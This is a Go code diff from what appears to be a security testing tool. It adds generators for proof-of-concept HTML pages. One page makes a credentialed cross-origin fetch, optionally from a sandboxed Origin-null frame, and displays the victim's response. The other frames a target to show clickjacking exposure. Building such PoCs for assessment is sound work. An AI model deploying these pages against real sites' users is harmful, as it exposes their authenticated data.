@@ -122,3 +122,37 @@ func sortFields(f [][2]string) {
 		}
 	}
 }
+
+// corsPoC returns a page that reads u with the visitor's credentials and
+// shows what it got, from a sandboxed frame (Origin: null) when null is set.
+func corsPoC(u *url.URL, null bool) string {
+	script := "<pre id=\"out\">reading " + html.EscapeString(u.String()) + "…</pre>\n<script>\n" +
+		"fetch(" + jsString(u.String()) + ", {credentials: \"include\"})\n" +
+		"  .then(r => r.text())\n" +
+		"  .then(t => { document.getElementById(\"out\").textContent = t })\n" +
+		"  .catch(e => { document.getElementById(\"out\").textContent = \"refused: \" + e })\n</script>\n"
+	var b strings.Builder
+	b.WriteString("<!doctype html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n<title>forgeproof proof of concept: credentialed CORS read of " + html.EscapeString(u.Path) + "</title>\n</head>\n<body>\n")
+	if null {
+		b.WriteString("<iframe sandbox=\"allow-scripts\" srcdoc=\"" + html.EscapeString(script) + "\"></iframe>\n")
+	} else {
+		b.WriteString(script)
+	}
+	b.WriteString("</body>\n</html>\n")
+	return b.String()
+}
+
+// framePoC returns a page that frames u: if the page shows, it can be
+// framed (and clickjacked).
+func framePoC(u *url.URL) string {
+	return "<!doctype html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n<title>forgeproof proof of concept: framing " + html.EscapeString(u.Path) + "</title>\n</head>\n<body>\n" +
+		"<p>If the page appears below, any site can frame it.</p>\n" +
+		"<iframe src=\"" + html.EscapeString(u.String()) + "\" width=\"900\" height=\"600\"></iframe>\n</body>\n</html>\n"
+}
+
+// jsString quotes s as a JavaScript string literal that is safe inside a
+// script element (json.Marshal escapes <, > and &).
+func jsString(s string) string {
+	b, _ := json.Marshal(s)
+	return string(b)
+}
